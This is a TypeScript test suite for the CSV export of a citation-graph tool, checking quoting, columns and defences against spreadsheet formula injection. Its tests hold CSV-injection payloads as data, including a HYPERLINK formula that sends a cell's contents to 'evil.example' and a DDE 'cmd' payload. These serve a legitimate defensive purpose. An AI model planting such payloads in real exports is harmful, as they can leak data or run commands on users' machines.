import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, edgesCsv, nodesCsv } from '../../../src/export/csv';
import { EDGE_COLUMNS, nodeColumns } from '../../../src/export/fields';
import type { CellValue } from '../../../src/export/fields';
import { readForeignGraph } from '../../../src/foreign/read';
import { convertForeignGraph } from '../../../src/foreign/convert';
import { readFileSync } from 'node:fs';
import { allInput, HOSTILE, load, NASTY, REAL, SMALL, visibleInput, withNastyPaper } from './support';

/** A column's value as its CSV cell reads back: lists joined with "; ", nothing as an empty cell. */
const cell = (v: CellValue): string => (v === undefined ? '' : Array.isArray(v) ? v.join('; ') : String(v));

/** Strict RFC 4180 reading: every row as long as the header, quotes only where allowed. */
function readCsv(text: string): Record<string, string>[] {
  return parse(text, {
    columns: true,
    record_delimiter: '\r\n',
    relax_quotes: false,
    relax_column_count: false,
    bom: false,
  });
}

describe('CSV export', () => {
  it('writes a pair of columns per further dimension of the taxonomy (ids and labels)', () => {
    const vision = load('tests/fixtures/vision/vision.json');
    const rows = readCsv(nodesCsv(allInput(vision)));
    const header = Object.keys(rows[0] ?? {});
    for (const c of [
      'dim_venue-type',
      'dim_venue-type_label',
      'dim_venue',
      'dim_venue_label',
      'dim_modality',
      'dim_modality_label',
    ])
      expect(header).toContain(c);
    // family and task have their own columns, and the bibliographic venue keeps its name
    expect(header).not.toContain('dim_family');
    expect(header).toContain('venue');
    const survey = rows.find((r) => r['id'] === '2101.00007')!;
    expect(survey['dim_modality']).toBe('image; text; audio');
    expect(survey['dim_modality_label']).toBe('Image; Text; Audio');
    expect(survey['dim_venue_label']).toBe('TPAMI');
    expect(survey['venue']).toBe('TPAMI');
    // the bundled survey has no further dimension
    expect(
      Object.keys(readCsv(nodesCsv(allInput(load(SMALL))))[0] ?? {}).filter((c) => c.startsWith('dim_')),
    ).toEqual([]);
  });

  it('writes RFC 4180 fields: quotes doubled, quoted only when needed, CRLF rows', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(undefined)).toBe('');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(false)).toBe('false');
    expect(nodesCsv(allInput(load(SMALL)))).toMatch(/^id,label,title,[^\n]*\r\n[^\r\n]+\r\n/);
  });

  it('neutralises text cells a spreadsheet would run as formulas: a leading quote, and the cell quoted', () => {
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('-x')).toBe(`"'-x"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField(['=1', 'b'])).toBe(`"'=1; b"`);
    // numbers are numbers, and a formula character inside a text is harmless
    expect(csvField(-2)).toBe('-2');
    expect(csvField('a=b')).toBe('a=b');
  });

  it('has a row per paper with its facts, taxonomy labels with evidence, drawing and build', () => {
    const loaded = load(REAL);
    const input = allInput(loaded);
    const rows = readCsv(nodesCsv(input));
    expect(rows).toHaveLength(loaded.graph.order);
    const header = Object.keys(rows[0] ?? {});
    expect(header.slice(0, 3)).toEqual(['id', 'label', 'title']);
    for (const c of [
      'method',
      'method_label',
      'method_evidence',
      'method_confidence',
      'space_evidence',
      'x',
      'y',
      'size',
      'color',
      'dataset',
      'inputs_hash',
    ]) {
      expect(header).toContain(c);
    }
    const cols = nodeColumns(loaded.meta.taxonomy);
    for (const row of rows) {
      const key = row.id as string;
      const a = loaded.graph.getNodeAttributes(key);
      expect(row.title).toBe(a.title);
      expect(row.year).toBe(String(a.year));
      expect(row.authors).toBe(a.authors.join('; '));
      expect(row.method_evidence).toBe(a.taxonomy.method?.evidence ?? '');
      expect(Number(row.x)).toBe(a.x);
      expect(Number(row.y)).toBe(a.y);
      expect(row.color).toBe(a.color);
      expect(row.dataset).toBe(loaded.meta.dataset.name);
      expect(row.inputs_hash).toBe(loaded.meta.inputsHash);
      for (const c of cols) {
        const v = c.get(a);
        expect(row[c.name], `${key} ${c.name}`).toBe(cell(v));
      }
    }
  });

  it('has a row per link in scope with kind and provenance', () => {
    const loaded = load(REAL);
    const input = visibleInput(loaded, { categories: { family: ['diffusion'] } }, 'families diffusion');
    const rows = readCsv(edgesCsv(input));
    expect(rows).toHaveLength(input.edges.size);
    expect(Object.keys(rows[0] ?? {}).slice(0, 6)).toEqual([
      'id',
      'source',
      'target',
      'kind',
      'kinds',
      'survey_only',
    ]);
    for (const row of rows) {
      const a = loaded.graph.getEdgeAttributes(row.id as string);
      expect(input.nodes.has(row.source as string) && input.nodes.has(row.target as string)).toBe(true);
      expect(row.source).toBe(loaded.graph.source(row.id as string));
      expect(row.kind).toBe(a.kind);
      expect(row.survey_only).toBe(String(a.surveyOnly));
      expect(row.provenance?.split('; ')).toEqual([...new Set(a.provenance.map((p) => p.source))]);
      for (const c of EDGE_COLUMNS) {
        const v = c.get(a);
        // the link's kind is `relation` in GEXF and GraphML, `kind` (the CSV importer's name) here
        expect(row[c.name === 'relation' ? 'kind' : c.name], `${row.id} ${c.name}`).toBe(cell(v));
      }
      expect(row).not.toHaveProperty('relation');
    }
    const multi = rows.find((r) => r.provenance?.includes('; '));
    expect(multi?.provenance_detail).toMatch(/fulltext-references .*; code-readme /);
  });

  it('reads back hostile text exactly', () => {
    const hostile = load(HOSTILE);
    const rows = readCsv(nodesCsv(allInput(hostile)));
    for (const row of rows) expect(row.title).toBe(hostile.graph.getNodeAttribute(row.id as string, 'title'));
    const { loaded, key } = withNastyPaper(load(SMALL));
    const nasty = readCsv(nodesCsv(allInput(loaded))).find((r) => r.id === key);
    // controls kept, the lone surrogate (not encodable in UTF-8) replaced
    expect(nasty?.title).toBe(NASTY.replace('\uD800', '\uFFFD'));
    expect(nasty?.venue).toBe(nasty?.title);
  });

  it('writes a hostile graph whose every formula-like text reads back as text, never a formula', () => {
    // texts a spreadsheet would run (https://owasp.org/www-community/attacks/CSV_Injection)
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      "=cmd|' /C calc'!A0",
    ];
    const loaded = load(SMALL);
    const graph = loaded.graph.copy();
    graph.nodes().forEach((key, i) => {
      const f = formulas[i % formulas.length]!;
      graph.updateNodeAttributes(key, (a) => ({
        ...a,
        label: f,
        title: f,
        venue: formulas[(i + 1) % formulas.length]!,
        authors: [formulas[(i + 2) % formulas.length]!, 'Plain Author'],
        tasks: [formulas[(i + 3) % formulas.length]!, ...(a.tasks ?? [])],
      }));
    });
    graph.forEachEdge((e) => graph.setEdgeAttribute(e, 'note', '=1+2'));
    const input = allInput({ graph, meta: loaded.meta });
    const FORMULA = /^[=+\-@\t\r]/;
    const NUMBER = /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/i;
    for (const text of [nodesCsv(input), edgesCsv(input)]) {
      const rows = parse(text, { record_delimiter: '\r\n', relax_quotes: false, bom: false }) as string[][];
      let guarded = 0;
      for (const row of rows) {
        for (const value of row) {
          // a negative number is a number to a spreadsheet, not a formula
          if (NUMBER.test(value)) continue;
          expect(value, JSON.stringify(value)).not.toMatch(FORMULA);
          if (value.startsWith("'") && FORMULA.test(value.slice(1))) guarded++;
        }
      }
      expect(guarded).toBeGreaterThan(0);
    }
    const rows = readCsv(nodesCsv(input));
    // the text is all there, behind the quote
    for (const row of rows) {
      const a = graph.getNodeAttributes(row.id as string);
      expect(row.title).toBe(`'${a.title}`);
      expect(row.label).toBe(`'${a.label}`);
    }
  });

  it("writes a graph opened from a file with the file's own columns, not the survey's", () => {
    const karate = convertForeignGraph(
      readForeignGraph(readFileSync('tests/fixtures/foreign/karate.gexf', 'utf8'), 'karate.gexf'),
    );
    const rows = readCsv(nodesCsv(allInput(karate)));
    const header = Object.keys(rows[0] ?? {});
    expect(header).toEqual([
      'id',
      'label',
      'dim_color-in-file',
      'dim_color-in-file_label',
      'citations',
      'pagerank',
      'community',
      'club',
      'degree',
      'centrality',
      'x',
      'y',
      'size',
      'color',
      'dataset',
      'inputs_hash',
    ]);
    expect(rows.find((r) => r.id === '33')).toMatchObject({
      label: 'Member 34',
      club: 'Officer',
      degree: '17',
    });
  });
});
